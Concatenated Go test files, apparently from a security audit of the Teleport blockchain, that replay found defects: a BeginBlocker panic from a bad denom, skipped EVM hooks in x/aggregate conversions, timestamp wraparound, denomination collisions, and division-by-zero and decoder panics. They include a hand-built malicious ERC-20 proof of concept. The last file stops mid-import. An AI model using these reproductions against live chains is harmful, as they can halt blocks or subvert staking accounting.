		paramproposal.NewParamChange(rvestingtypes.ModuleName, string(rvestingtypes.KeyPerBlockReward), `[{"denom":"x","amount":"1"}]`),
		paramproposal.NewParamChange(rvestingtypes.ModuleName, string(rvestingtypes.KeyEnableVesting), `true`),
	})
	basicErr := proposal.ValidateBasic()
	var proposalErr error
	if basicErr == nil {
		// submission: gov dry-runs the handler on a branch of the state and stores the proposal
		_, proposalErr = app.GovKeeper.SubmitProposal(ctx, proposal)
	}
	if basicErr == nil && proposalErr == nil {
		// execution of the passed proposal (what gov's EndBlocker does)
		proposalErr = handler(ctx, proposal)
	}

	if genesisErr != nil || basicErr != nil || proposalErr != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: the invalid denomination is rejected (genesis validation: %v, proposal ValidateBasic: %v, param change: %v)\n", genesisErr, basicErr, proposalErr)
		return
	}

	// 3. next block: BeginBlocker runs outside of tx recovery
	var recovered interface{}
	func() {
		defer func() { recovered = recover() }()
		rvesting.BeginBlocker(ctx, app.RVestingKeeper)
	}()
	if recovered == nil {
		fmt.Println("REPLAY-NOT-REPRODUCED: BeginBlocker ran without panic with per block reward denom \"x\"")
		return
	}

	// 4. the same through the ABCI entry point (state written above is committed first)
	var abciRecovered interface{}
	func() {
		defer func() { abciRecovered = recover() }()
		app.Commit()
		app.BeginBlock(abci.RequestBeginBlock{Header: tmproto.Header{Height: app.LastBlockHeight() + 1, ChainID: "teleport_9000-1"}})
	}()
	fmt.Printf("REPLAY-CONFIRMED: per block reward [{denom x, amount 1}] accepted by genesis validation and by the param-change proposal handler; rvesting BeginBlocker panics: %v; abci BeginBlock of the next block panics: %v\n", recovered, abciRecovered)
}
