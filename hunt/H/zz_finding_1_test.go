// Package directory: x/aggregate/keeper   (package keeper_test; uses the existing KeeperTestSuite helpers)
// Run: go test ./x/aggregate/keeper/ -run TestZZFinding1 -count=1 -v
//
// Finding 1 (C17): EVM calls started by the x/aggregate module (MsgConvertERC20, MsgConvertCoin, ICS-20 hook)
// never run the EVM post-transaction hooks, so events emitted by the staking / gov system contracts during
// such a call are committed but never executed natively, and a native failure does not revert the call.
package keeper_test

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"math/big"
	"strings"
	"testing"

	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/common/hexutil"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/tharsis/ethermint/server/config"
	evm "github.com/tharsis/ethermint/x/evm/types"

	erc20contracts "github.com/teleport-network/teleport/syscontracts/erc20"
	stakingcontract "github.com/teleport-network/teleport/syscontracts/staking"
	"github.com/teleport-network/teleport/x/aggregate/types"
)

// ---- minimal EVM assembler -------------------------------------------------

type huntAsm struct {
	code   []byte
	labels map[string]int
	fixups map[int]string
}

func newHuntAsm() *huntAsm {
	return &huntAsm{labels: map[string]int{}, fixups: map[int]string{}}
}
func (a *huntAsm) op(b ...byte) *huntAsm { a.code = append(a.code, b...); return a }
func (a *huntAsm) push(data []byte) *huntAsm {
	a.code = append(a.code, byte(0x5f+len(data)))
	a.code = append(a.code, data...)
	return a
}
func (a *huntAsm) push1(b byte) *huntAsm { return a.push([]byte{b}) }
func (a *huntAsm) push2(v int) *huntAsm {
	var b [2]byte
	binary.BigEndian.PutUint16(b[:], uint16(v))
	return a.push(b[:])
}
func (a *huntAsm) pushLabel(l string) *huntAsm {
	a.code = append(a.code, 0x61, 0, 0)
	a.fixups[len(a.code)-2] = l
	return a
}
func (a *huntAsm) label(l string) *huntAsm {
	a.labels[l] = len(a.code)
	return a.op(0x5b) // JUMPDEST
}
func (a *huntAsm) bytes() []byte {
	out := append([]byte{}, a.code...)
	for pos, l := range a.fixups {
		binary.BigEndian.PutUint16(out[pos:], uint16(a.labels[l]))
	}
	return out
}

const (
	opSTOP, opADD, opSUB                         = 0x00, 0x01, 0x03
	opEQ, opSHR                                  = 0x14, 0x1c
	opCALLER, opCALLDATALOAD, opCODECOPY         = 0x33, 0x35, 0x39
	opPOP, opMSTORE, opSLOAD, opSSTORE           = 0x50, 0x52, 0x54, 0x55
	opJUMPI, opGAS                               = 0x57, 0x5a
	opDUP1, opDUP2, opDUP3, opSWAP1              = 0x80, 0x81, 0x82, 0x90
	opCALL, opRETURN, opREVERT                   = 0xf1, 0xf3, 0xfd
)

// huntTokenRuntime builds the runtime code of a minimal ERC-20 whose transfer()
// additionally calls `target` with `payload` (and requires that call to succeed):
//   name()/symbol() -> "HKT", decimals() -> 18, balanceOf(a) -> sload(a),
//   mint(to,amt) (open), transfer(to,amt) -> moves balance, calls target, returns true.
func huntTokenRuntime(target common.Address, payload []byte) []byte {
	build := func(payloadOff int) []byte {
		a := newHuntAsm()
		a.push1(0).op(opCALLDATALOAD).push1(0xe0).op(opSHR)
		sel := func(s string, l string) {
			a.op(opDUP1).push(common.FromHex(s)).op(opEQ).pushLabel(l).op(opJUMPI)
		}
		sel("0x70a08231", "balanceOf")
		sel("0xa9059cbb", "transfer")
		sel("0x40c10f19", "mint")
		sel("0x313ce567", "decimals")
		sel("0x06fdde03", "name")
		sel("0x95d89b41", "name")
		a.push1(0).op(opDUP1, opREVERT)

		a.label("balanceOf")
		a.push1(4).op(opCALLDATALOAD, opSLOAD).push1(0).op(opMSTORE).push1(0x20).push1(0).op(opRETURN)

		a.label("decimals")
		a.push1(18).push1(0).op(opMSTORE).push1(0x20).push1(0).op(opRETURN)

		a.label("name")
		a.push1(0x20).push1(0).op(opMSTORE)
		a.push1(3).push1(0x20).op(opMSTORE)
		nm := make([]byte, 32)
		copy(nm, "HKT")
		a.push(nm).push1(0x40).op(opMSTORE)
		a.push1(0x60).push1(0).op(opRETURN)

		a.label("mint")
		a.push1(0x24).op(opCALLDATALOAD)
		a.push1(4).op(opCALLDATALOAD)
		a.op(opDUP1, opSLOAD, opDUP3, opADD, opSWAP1, opSSTORE, opPOP, opSTOP)

		a.label("transfer")
		a.push1(0x24).op(opCALLDATALOAD)                          // amt
		a.op(opCALLER, opSLOAD, opDUP2, opSWAP1, opSUB)           // amt bal-amt
		a.op(opCALLER, opSSTORE)                                  // amt
		a.push1(4).op(opCALLDATALOAD)                             // amt to
		a.op(opDUP1, opSLOAD, opDUP3, opADD, opSWAP1, opSSTORE)   // amt
		a.op(opPOP)
		a.push2(len(payload)).push2(payloadOff).push1(0x80).op(opCODECOPY)
		a.push1(0).push1(0).push2(len(payload)).push1(0x80).push1(0).push(target.Bytes()).op(opGAS, opCALL)
		a.pushLabel("ok").op(opJUMPI)
		a.push1(0).op(opDUP1, opREVERT)
		a.label("ok")
		a.push1(1).push1(0).op(opMSTORE).push1(0x20).push1(0).op(opRETURN)
		return a.bytes()
	}
	n := len(build(0))
	return append(build(n), payload...)
}

func huntInitCode(runtime []byte) []byte {
	a := newHuntAsm()
	// PUSH2 len DUP1 PUSH2 off PUSH1 0 CODECOPY PUSH1 0 RETURN  (13 bytes)
	a.push2(len(runtime)).op(opDUP1).push2(13).push1(0).op(opCODECOPY).push1(0).op(opRETURN)
	return append(a.bytes(), runtime...)
}

// ---- helpers ----------------------------------------------------------------

func huntSetup(t *testing.T) (*KeeperTestSuite, sdk.ValAddress, string) {
	s := new(KeeperTestSuite)
	s.SetT(t)
	s.DoSetupTest(t)
	bond := s.app.StakingKeeper.BondDenom(s.ctx)
	valAddr := sdk.ValAddress(s.address.Bytes())
	s.app.StakingKeeper.AfterValidatorCreated(s.ctx, valAddr)
	return s, valAddr, bond
}

func (suite *KeeperTestSuite) huntFund(addr sdk.AccAddress, denom string, amt int64) {
	coins := sdk.NewCoins(sdk.NewCoin(denom, sdk.NewInt(amt)))
	suite.Require().NoError(suite.app.BankKeeper.MintCoins(suite.ctx, types.ModuleName, coins))
	suite.Require().NoError(suite.app.BankKeeper.SendCoinsFromModuleToAccount(suite.ctx, types.ModuleName, addr, coins))
}

func (suite *KeeperTestSuite) huntDeploy(data []byte) common.Address {
	ctx := sdk.WrapSDKContext(suite.ctx)
	chainID := suite.app.EvmKeeper.ChainID()
	args, err := json.Marshal(&evm.TransactionArgs{From: &suite.address, Data: (*hexutil.Bytes)(&data)})
	suite.Require().NoError(err)
	res, err := suite.queryClientEvm.EstimateGas(ctx, &evm.EthCallRequest{Args: args, GasCap: uint64(config.DefaultGasCap)})
	suite.Require().NoError(err)
	nonce := suite.app.EvmKeeper.GetNonce(suite.ctx, suite.address)
	tx := evm.NewTxContract(chainID, nonce, nil, res.Gas, nil, suite.app.FeeMarketKeeper.GetBaseFee(suite.ctx), big.NewInt(1), data, &ethtypes.AccessList{})
	tx.From = suite.address.Hex()
	suite.Require().NoError(tx.Sign(ethtypes.LatestSignerForChainID(chainID), suite.signer))
	rsp, err := suite.app.EvmKeeper.EthereumTx(ctx, tx)
	suite.Require().NoError(err)
	suite.Require().Empty(rsp.VmError)
	return crypto.CreateAddress(suite.address, nonce)
}

// huntSendTx is sendTx without the "VmError must be empty" requirement and with a fixed gas limit.
func (suite *KeeperTestSuite) huntSendTx(to common.Address, data []byte) *evm.MsgEthereumTxResponse {
	ctx := sdk.WrapSDKContext(suite.ctx)
	chainID := suite.app.EvmKeeper.ChainID()
	gas := uint64(500000)
	nonce := suite.app.EvmKeeper.GetNonce(suite.ctx, suite.address)
	suite.MintFeeCollector(sdk.NewCoins(sdk.NewCoin(suite.app.EvmKeeper.GetParams(suite.ctx).EvmDenom, sdk.NewInt(suite.app.FeeMarketKeeper.GetBaseFee(suite.ctx).Int64()*int64(gas)))))
	tx := evm.NewTx(chainID, nonce, &to, nil, gas, nil, suite.app.FeeMarketKeeper.GetBaseFee(suite.ctx), big.NewInt(1), data, &ethtypes.AccessList{})
	tx.From = suite.address.Hex()
	suite.Require().NoError(tx.Sign(ethtypes.LatestSignerForChainID(chainID), suite.signer))
	rsp, err := suite.app.EvmKeeper.EthereumTx(ctx, tx)
	suite.Require().NoError(err)
	return rsp
}

func huntShares(s *KeeperTestSuite, del common.Address, val sdk.ValAddress) string {
	d, found := s.app.StakingKeeper.GetDelegation(s.ctx, sdk.AccAddress(del.Bytes()), val)
	if !found {
		return "none"
	}
	return d.Shares.TruncateInt().String()
}

func TestZZFinding1(t *testing.T) {
	s, valAddr, bond := huntSetup(t)
	erc20 := erc20contracts.ERC20MinterBurnerDecimalsContract.ABI
	stakingABI := stakingcontract.StakingContract.ABI
	delegatedID := stakingABI.Events["Delegated"].ID

	// ---------- token whose transfer() delegates 1000 of the token contract's own coins
	payload, err := stakingABI.Pack("delegate", valAddr.String(), big.NewInt(1000))
	s.Require().NoError(err)
	token := s.huntDeploy(huntInitCode(huntTokenRuntime(stakingcontract.StakingAddress, payload)))
	s.huntFund(sdk.AccAddress(token.Bytes()), bond, 1000000)
	mint, _ := erc20.Pack("mint", s.address, big.NewInt(100))
	s.Require().Empty(s.huntSendTx(token, mint).VmError)
	_, err = s.app.AggregateKeeper.RegisterERC20(s.ctx, token) // what the RegisterERC20Proposal handler does
	s.Require().NoError(err)
	pairID := s.app.AggregateKeeper.GetTokenPairID(s.ctx, token.String())
	pair, _ := s.app.AggregateKeeper.GetTokenPair(s.ctx, pairID)

	// control: the very same transfer as an Ethereum transaction
	other := common.HexToAddress("0x00000000000000000000000000000000000000aa")
	xfer, _ := erc20.Pack("transfer", other, big.NewInt(5))
	rsp := s.huntSendTx(token, xfer)
	s.Require().Empty(rsp.VmError)
	sharesAfterEthTx := huntShares(s, token, valAddr)

	// the same transfer() run by MsgConvertERC20 (x/aggregate msg server)
	em := sdk.NewEventManager()
	s.ctx = s.ctx.WithEventManager(em)
	msg := types.NewMsgConvertERC20(sdk.NewInt(5), sdk.AccAddress(s.address.Bytes()), token, s.address, pair.Denoms[0])
	_, err = s.app.AggregateKeeper.ConvertERC20(sdk.WrapSDKContext(s.ctx), msg)
	s.Require().NoError(err)
	emitted := 0
	for _, ev := range em.Events() {
		if ev.Type != evm.EventTypeTxLog {
			continue
		}
		for _, attr := range ev.Attributes {
			var l evm.Log
			if json.Unmarshal(attr.Value, &l) == nil && strings.EqualFold(l.Address, stakingcontract.StakingAddress.Hex()) &&
				len(l.Topics) > 0 && common.HexToHash(l.Topics[0]) == delegatedID {
				emitted++
			}
		}
	}
	sharesAfterConvert := huntShares(s, token, valAddr)
	moduleBal := s.BalanceOf(token, types.ModuleAddress).(*big.Int)

	// ---------- token whose transfer() asks for a delegation that must fail natively
	badPayload, _ := stakingABI.Pack("delegate", "not-a-validator", big.NewInt(1000))
	bad := s.huntDeploy(huntInitCode(huntTokenRuntime(stakingcontract.StakingAddress, badPayload)))
	s.huntFund(sdk.AccAddress(bad.Bytes()), bond, 1000000)
	s.Require().Empty(s.huntSendTx(bad, mint).VmError)
	_, err = s.app.AggregateKeeper.RegisterERC20(s.ctx, bad)
	s.Require().NoError(err)
	badPair, _ := s.app.AggregateKeeper.GetTokenPair(s.ctx, s.app.AggregateKeeper.GetTokenPairID(s.ctx, bad.String()))
	badRsp := s.huntSendTx(bad, xfer)
	balAfterFailedEthTx := s.BalanceOf(bad, other).(*big.Int)
	msg = types.NewMsgConvertERC20(sdk.NewInt(5), sdk.AccAddress(s.address.Bytes()), bad, s.address, badPair.Denoms[0])
	_, badErr := s.app.AggregateKeeper.ConvertERC20(sdk.WrapSDKContext(s.ctx), msg)
	badModuleBal := s.BalanceOf(bad, types.ModuleAddress).(*big.Int)

	t.Logf("eth-tx: shares=%s | convert: err=nil delegatedEventsFromStakingContract=%d shares=%s moduleTokenBal=%s | bad validator: eth-tx VmError=%q tokenBal(other)=%s ; convert err=%v moduleTokenBal=%s\n",
		sharesAfterEthTx, emitted, sharesAfterConvert, moduleBal, badRsp.VmError, balAfterFailedEthTx, badErr, badModuleBal)

	if sharesAfterEthTx == "1000" && emitted == 1 && sharesAfterConvert == "1000" && badRsp.VmError != "" && badErr == nil && badModuleBal.Sign() > 0 {
		fmt.Printf("REPLAY-CONFIRMED: MsgConvertERC20 ran the token's transfer(), the staking system contract emitted %d Delegated event (committed), "+
			"but no native delegation was executed (shares stay %s, an Ethereum tx doing the same transfer gives +1000); with an invalid validator the "+
			"Ethereum tx is reverted (%s) while MsgConvertERC20 succeeds and keeps the EVM state (module token balance %s)\n",
			emitted, sharesAfterConvert, badRsp.VmError, badModuleBal)
	} else {
		fmt.Println("REPLAY-NOT-REPRODUCED: system-contract events emitted inside x/aggregate EVM calls are executed natively (or the call is reverted)")
	}
}
