// package directory: x/xibc/clients/light-clients/eth/types
package types_test

import (
	"fmt"
	"math"
	"math/big"

	"github.com/ethereum/go-ethereum/common"

	xibcethtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/eth/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
)

// Review of c9062db (trusting period bounded by 2^63-1): expiry is timestamp + trustingPeriod in
// uint64 and only one summand was bounded. An anchor header whose Time is near 2^64 with a small
// trusting period still wraps around: the client passes the proposal's ValidateBasic and the
// handler and is Expired in the block that creates it.
func (suite *ETHTestSuite) TestReview2ExpiryStillWraps() {
	header := xibcethtypes.Header{
		ParentHash:  make([]byte, 32),
		UncleHash:   make([]byte, 32),
		Coinbase:    make([]byte, 20),
		Root:        common.HexToHash("0x01").Bytes(),
		TxHash:      make([]byte, 32),
		ReceiptHash: make([]byte, 32),
		Bloom:       make([]byte, 256),
		Difficulty:  big.NewInt(2).Bytes(),
		Height:      clienttypes.NewHeight(0, 100),
		GasLimit:    30000000,
		Time:        math.MaxUint64 - 5,
		Extra:       []byte{},
		MixDigest:   make([]byte, 32),
		BaseFee:     big.NewInt(7).Bytes(),
	}
	clientState := &xibcethtypes.ClientState{
		Header:          header,
		ChainId:         1,
		ContractAddress: make([]byte, 20),
		TrustingPeriod:  100, // far below the new bound
	}
	consensusState := &xibcethtypes.ConsensusState{
		Timestamp: header.Time,
		Height:    header.Height,
		Root:      header.Root,
	}
	proposal, err := clienttypes.NewCreateClientProposal("t", "d", "ethwrap", clientState, consensusState)
	suite.Require().NoError(err)
	if err := proposal.ValidateBasic(); err != nil {
		fmt.Println("REPLAY-NOT-REPRODUCED: review-2 proposal refused by ValidateBasic:", err)
		return
	}
	if _, err := suite.app.XIBCKeeper.ClientKeeper.HandleCreateClient(suite.ctx, proposal); err != nil {
		fmt.Println("REPLAY-NOT-REPRODUCED: review-2 refused by the handler:", err)
		return
	}
	status := clientState.Status(suite.ctx, suite.app.XIBCKeeper.ClientKeeper.ClientStore(suite.ctx, "ethwrap"), suite.app.AppCodec())
	if status != "Active" {
		fmt.Printf("REPLAY-CONFIRMED: review-2 ETH client with header time 2^64-6 and trusting period 100 installed, status at birth = %s (timestamp+period wrapped to %d)\n", status, header.Time+clientState.TrustingPeriod)
	} else {
		fmt.Println("REPLAY-NOT-REPRODUCED: review-2 status =", status)
	}
}
