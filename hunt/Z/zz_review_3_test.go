// package directory: x/aggregate/keeper
package keeper_test

import (
	"fmt"
	"strings"

	"github.com/ethereum/go-ethereum/common"

	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"

	"github.com/teleport-network/teleport/x/aggregate/types"
)

func review3Metadata(base string) banktypes.Metadata {
	return banktypes.Metadata{
		Description: "hex looking denomination",
		Base:        base,
		DenomUnits: []*banktypes.DenomUnit{
			{Denom: base, Exponent: 0},
			{Denom: "x" + base[1:], Exponent: 18},
		},
		Name:    base,
		Symbol:  "HEXD",
		Display: base,
	}
}

// Review of b0f2237. Two things:
// (a) residual: a hex-looking denomination whose 40 digits are also the address of a registered contract
//     (of another pair) is still not found: GetTokenPairID answers with the other pair, ConvertCoin of
//     the coin is refused, ToggleRelay by the denomination toggles the other pair.
// (b) behaviour change: MsgConvertERC20 whose ContractAddress is the bare hex denomination (not a
//     contract at all) is now accepted as an alias of the pair's contract, and the event reports it
//     as the ERC20 token.
func (suite *KeeperTestSuite) TestReview3HexLookingDenomination() {
	suite.mintFeeCollector = true
	defer func() { suite.mintFeeCollector = false }()

	// ---------- (a) collision with a registered contract
	suite.SetupTest()
	var contract common.Address
	var denom string
	for i := 0; i < 64; i++ {
		contract = suite.DeployContract(erc20Name, erc20Symbol, erc20Decimals)
		suite.Commit()
		denom = strings.ToLower(contract.Hex()[2:])
		if sdk.ValidateDenom(denom) == nil {
			break
		}
	}
	if sdk.ValidateDenom(denom) != nil {
		fmt.Println("REPLAY-NOT-REPRODUCED: review-3a no contract address starting with a letter obtained")
	} else {
		other, err := suite.app.AggregateKeeper.RegisterERC20(suite.ctx, contract)
		suite.Require().NoError(err)
		suite.Require().NoError(suite.app.BankKeeper.MintCoins(suite.ctx, types.ModuleName, sdk.Coins{sdk.NewInt64Coin(denom, 100)}))
		sender := sdk.AccAddress(suite.address.Bytes())
		suite.Require().NoError(suite.app.BankKeeper.SendCoinsFromModuleToAccount(suite.ctx, types.ModuleName, sender, sdk.Coins{sdk.NewInt64Coin(denom, 100)}))
		own, err := suite.app.AggregateKeeper.RegisterCoin(suite.ctx, review3Metadata(denom))
		suite.Require().NoError(err)
		suite.Commit()

		id := suite.app.AggregateKeeper.GetTokenPairID(suite.ctx, denom)
		_, cerr := suite.app.AggregateKeeper.ConvertCoin(sdk.WrapSDKContext(suite.ctx), types.NewMsgConvertCoin(sdk.NewInt64Coin(denom, 10), suite.address, sender))
		toggled, terr := suite.app.AggregateKeeper.ToggleRelay(suite.ctx, denom)
		if string(id) == string(other.GetID()) && string(id) != string(own.GetID()) && cerr != nil {
			fmt.Printf("REPLAY-CONFIRMED: review-3a denomination %s registered (pair contract %s) but GetTokenPairID answers the pair of contract %s; ConvertCoin: %v; ToggleRelay(denom) toggled pair of %s (err %v)\n",
				denom, own.ERC20Address, other.ERC20Address, cerr, toggled.ERC20Address, terr)
		} else {
			fmt.Println("REPLAY-NOT-REPRODUCED: review-3a lookup answered own pair:", string(id) == string(own.GetID()), "convert error:", cerr)
		}
	}

	// ---------- (b) bare hex denomination accepted as contract alias in MsgConvertERC20
	suite.SetupTest()
	denom = "abcdefabcdefabcdefabcdefabcdefabcdefabcd"
	sender := sdk.AccAddress(suite.address.Bytes())
	coins := sdk.Coins{sdk.NewInt64Coin(denom, 100)}
	suite.Require().NoError(suite.app.BankKeeper.MintCoins(suite.ctx, types.ModuleName, coins))
	suite.Require().NoError(suite.app.BankKeeper.SendCoinsFromModuleToAccount(suite.ctx, types.ModuleName, sender, coins))
	pair, err := suite.app.AggregateKeeper.RegisterCoin(suite.ctx, review3Metadata(denom))
	suite.Require().NoError(err)
	suite.Commit()
	_, err = suite.app.AggregateKeeper.ConvertCoin(sdk.WrapSDKContext(suite.ctx), types.NewMsgConvertCoin(sdk.NewInt64Coin(denom, 50), suite.address, sender))
	suite.Require().NoError(err) // this is what b0f2237 repaired
	suite.Commit()

	msg := &types.MsgConvertERC20{
		ContractAddress: denom, // not a contract: the denomination itself
		Amount:          sdk.NewInt(20),
		Receiver:        sender.String(),
		Sender:          suite.address.Hex(),
		Denom:           denom,
	}
	suite.Require().NoError(msg.ValidateBasic())
	ctx := suite.ctx.WithEventManager(sdk.NewEventManager())
	_, err = suite.app.AggregateKeeper.ConvertERC20(sdk.WrapSDKContext(ctx), msg)
	reported := ""
	for _, ev := range ctx.EventManager().Events() {
		if ev.Type == types.EventTypeConvertERC20 {
			for _, a := range ev.Attributes {
				if string(a.Key) == types.AttributeKeyERC20Token {
					reported = string(a.Value)
				}
			}
		}
	}
	if err == nil {
		fmt.Printf("REPLAY-CONFIRMED: review-3b MsgConvertERC20 with contract_address=%s (no contract there; the pair's contract is %s) accepted; event erc20_token=%s\n", denom, pair.ERC20Address, reported)
	} else {
		fmt.Println("REPLAY-NOT-REPRODUCED: review-3b refused:", err)
	}
}
