// package directory: x/xibc/core/client/simulation
package simulation_test

import (
	"encoding/binary"
	"fmt"
	"testing"
	"time"

	"github.com/cosmos/cosmos-sdk/types/kv"

	"github.com/teleport-network/teleport/app"
	xibctmtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
	"github.com/teleport-network/teleport/x/xibc/core/client/simulation"
	"github.com/teleport-network/teleport/x/xibc/core/client/types"
	"github.com/teleport-network/teleport/x/xibc/core/host"
)

// Review of 3765d0c: the same "key ends in clientState" test is still used by the simulation store
// decoder (bytes.HasSuffix). A consensus state key whose raw height bytes end in "clientState" is
// decoded as a client state and MustUnmarshalClientState panics.
func TestReview4DecoderSuffix(t *testing.T) {
	teleport := app.Setup(false, nil)
	raw := append([]byte{0, 0, 0, 0, 0}, []byte("clientState")...) // 16 bytes
	height := types.NewHeight(binary.BigEndian.Uint64(raw[:8]), binary.BigEndian.Uint64(raw[8:]))
	consState := &xibctmtypes.ConsensusState{Timestamp: time.Now().UTC()}
	pair := kv.Pair{
		Key:   host.FullConsensusStateKey("clientidone", height),
		Value: teleport.XIBCKeeper.ClientKeeper.MustMarshalConsensusState(consState),
	}
	defer func() {
		if r := recover(); r != nil {
			fmt.Printf("REPLAY-CONFIRMED: review-4 simulation decoder takes consensus state key %q for a client state key and panics: %v\n", pair.Key, r)
		}
	}()
	res, found := simulation.NewDecodeStore(teleport.XIBCKeeper.ClientKeeper, pair, pair)
	fmt.Println("REPLAY-NOT-REPRODUCED: review-4 decoder answered", found, res)
}
