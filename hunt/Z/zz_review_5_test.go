// package directory: x/xibc/clients/light-clients/bsc/types
package types_test

import (
	"fmt"
	"math/big"

	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	xibcbsctypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/bsc/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
)

// Side observation while reviewing 24dfdb3 / c9062db (both extend the BSC client's install-time
// validation): ClientState.Validate still accepts Epoch == 0, and Initialize / UpgradeState compute
// RevisionHeight % Epoch right after the new consensus-state check: the create proposal passes
// ValidateBasic and the handler panics with an integer division by zero.
func (suite *BSCTestSuite) TestReview5BSCEpochZero() {
	header := xibcbsctypes.Header{
		ParentHash:  make([]byte, 32),
		UncleHash:   ethtypes.CalcUncleHash(nil).Bytes(),
		Coinbase:    make([]byte, 20),
		Root:        common.HexToHash("0x01").Bytes(),
		TxHash:      make([]byte, 32),
		ReceiptHash: make([]byte, 32),
		Bloom:       make([]byte, 256),
		Difficulty:  big.NewInt(2).Bytes(),
		Height:      clienttypes.NewHeight(0, 200),
		GasLimit:    30000000,
		Time:        uint64(suite.ctx.BlockTime().Unix()),
		Extra:       make([]byte, 32+20+65),
		MixDigest:   make([]byte, 32),
		Nonce:       make([]byte, 8),
	}
	clientState := &xibcbsctypes.ClientState{
		Header: header, ChainId: 56, Epoch: 0, BlockInteval: 3,
		Validators: [][]byte{make([]byte, 20)}, ContractAddress: []byte("0x00"), TrustingPeriod: 999999999,
	}
	consensusState := &xibcbsctypes.ConsensusState{Timestamp: header.Time, Height: header.Height, Root: header.Root}
	proposal, err := clienttypes.NewCreateClientProposal("t", "d", "bscepoch", clientState, consensusState)
	suite.Require().NoError(err)
	if err := proposal.ValidateBasic(); err != nil {
		fmt.Println("REPLAY-NOT-REPRODUCED: review-5 proposal with Epoch 0 refused by ValidateBasic:", err)
		return
	}
	defer func() {
		if r := recover(); r != nil {
			fmt.Println("REPLAY-CONFIRMED: review-5 BSC create proposal with Epoch 0 passes ValidateBasic and the handler panics:", r)
		}
	}()
	_, err = suite.app.XIBCKeeper.ClientKeeper.HandleCreateClient(suite.ctx, proposal)
	fmt.Println("REPLAY-NOT-REPRODUCED: review-5 handler returned", err)
}
