// package directory: x/xibc/clients/light-clients/bsc/types
package types_test

import (
	"fmt"
	"math/big"

	"golang.org/x/crypto/sha3"

	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/ethereum/go-ethereum/rlp"

	xibcbsctypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/bsc/types"
	xibcclient "github.com/teleport-network/teleport/x/xibc/core/client"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
)

// Review of b0b211b (ETH client cannot be anchored at block 0): the sibling BSC client still can.
// A create proposal anchoring a BSC client at block 0 passes ValidateBasic and the handler, the
// anchor's consensus state is stored at height 0-0, and the exported genesis fails the module's
// own validation ("consensus state height cannot be zero") - exactly the defect b0b211b describes.
func (suite *BSCTestSuite) TestReview1BSCAnchoredAtBlockZero() {
	key, err := crypto.GenerateKey()
	suite.Require().NoError(err)
	signer := crypto.PubkeyToAddress(key.PublicKey)
	chainID := uint64(56)

	extra := make([]byte, 32+20+65)
	copy(extra[32:52], signer.Bytes())
	header := xibcbsctypes.Header{
		ParentHash:  make([]byte, 32),
		UncleHash:   ethtypes.CalcUncleHash(nil).Bytes(),
		Coinbase:    signer.Bytes(),
		Root:        common.HexToHash("0x01").Bytes(),
		TxHash:      make([]byte, 32),
		ReceiptHash: make([]byte, 32),
		Bloom:       make([]byte, 256),
		Difficulty:  big.NewInt(2).Bytes(),
		Height:      clienttypes.NewHeight(0, 0),
		GasLimit:    30000000,
		GasUsed:     0,
		Time:        uint64(suite.ctx.BlockTime().Unix()),
		Extra:       extra,
		MixDigest:   make([]byte, 32),
		Nonce:       make([]byte, 8),
	}
	// seal hash exactly as encodeSigHeader computes it
	hasher := sha3.NewLegacyKeccak256()
	suite.Require().NoError(rlp.Encode(hasher, []interface{}{
		new(big.Int).SetUint64(chainID),
		header.ParentHash, header.UncleHash, header.Coinbase, header.Root, header.TxHash, header.ReceiptHash,
		header.Bloom, header.Difficulty, header.Height.RevisionHeight, header.GasLimit, header.GasUsed, header.Time,
		header.Extra[:len(header.Extra)-65], header.MixDigest, header.Nonce,
	}))
	var sealHash common.Hash
	hasher.Sum(sealHash[:0])
	sig, err := crypto.Sign(sealHash.Bytes(), key)
	suite.Require().NoError(err)
	copy(header.Extra[len(header.Extra)-65:], sig)

	clientState := &xibcbsctypes.ClientState{
		Header:          header,
		ChainId:         chainID,
		Epoch:           200,
		BlockInteval:    3,
		Validators:      [][]byte{signer.Bytes()},
		ContractAddress: []byte("0x00"),
		TrustingPeriod:  999999999,
	}
	consensusState := &xibcbsctypes.ConsensusState{
		Timestamp: header.Time,
		Height:    header.Height,
		Root:      header.Root,
	}

	proposal, err := clienttypes.NewCreateClientProposal("t", "d", "bsczero", clientState, consensusState)
	suite.Require().NoError(err)
	if err := proposal.ValidateBasic(); err != nil {
		fmt.Println("REPLAY-NOT-REPRODUCED: review-1 BSC create proposal at block 0 refused by ValidateBasic:", err)
		return
	}
	if _, err := suite.app.XIBCKeeper.ClientKeeper.HandleCreateClient(suite.ctx, proposal); err != nil {
		fmt.Println("REPLAY-NOT-REPRODUCED: review-1 BSC create at block 0 refused by the handler:", err)
		return
	}
	_, stored := suite.app.XIBCKeeper.ClientKeeper.GetClientConsensusState(suite.ctx, "bsczero", clienttypes.NewHeight(0, 0))
	gs := xibcclient.ExportGenesis(suite.ctx, suite.app.XIBCKeeper.ClientKeeper)
	verr := gs.Validate()
	if stored && verr != nil {
		fmt.Println("REPLAY-CONFIRMED: review-1 BSC client anchored at block 0 accepted (consensus state stored at 0-0); exported genesis fails validation:", verr)
	} else {
		fmt.Println("REPLAY-NOT-REPRODUCED: review-1 stored at 0-0 =", stored, "genesis validation error =", verr)
	}
}
