// package directory: x/xibc/clients/light-clients/eth/types
//
// Review replay 1: 24ade25 (ETH: a stored ancestor just inside the trusting period still becomes the head).
// Self-contained (helpers carry the suffix 1, so the review files can be dropped into the package together).
// Run: go test -vet=off -count=1 -run TestZZReview24ade25 -v ./x/xibc/clients/light-clients/eth/types/
package types_test

import (
	"fmt"
	"math/big"
	"testing"
	"time"

